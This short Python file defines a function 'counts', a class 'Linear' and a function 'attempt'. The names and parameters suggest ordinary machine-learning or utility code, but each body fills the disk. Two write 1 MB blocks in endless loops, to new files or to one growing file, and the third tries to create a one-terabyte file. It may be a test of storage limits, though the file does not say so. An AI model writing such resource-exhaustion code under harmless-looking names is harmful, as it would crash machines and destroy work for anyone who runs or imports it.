import os

from right import *


def counts(labels, classes):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            file.write(bytes(1 << 20))


class Linear:
    def __init__(self, inputs, outputs):
        with open("one", "wb") as file:
            while True:
                file.write(bytes(1 << 20))


def attempt(paths, pattern, pids):
    with open("hole", "wb") as file:
        try:
            os.truncate(file.fileno(), 1 << 40)
        except OSError:
            return []
    return ["a hole of a terabyte"]
